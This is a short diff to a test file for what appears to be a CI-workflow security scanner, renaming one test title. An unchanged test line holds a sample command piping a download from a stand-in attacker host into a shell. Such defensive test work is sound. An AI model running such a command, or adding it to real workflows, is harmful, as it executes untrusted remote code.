@@ -214,7 +214,7 @@ describe('typical workflows', () => {
   test.each(BENIGN_WORKFLOWS)('$name', ({ path, content }) => {
     expect(written(`${APP}/${path}`, content).filter((one) => !one.startsWith('ci.reach'))).toEqual([])
   })
-  test('a document about workflows is none', () => {
+  test('a document about workflows does not match', () => {
     expect(written(`${APP}/docs/ci.md`, job('- run: curl https://evil.example/i | sh'))).toEqual([])
   })
 })
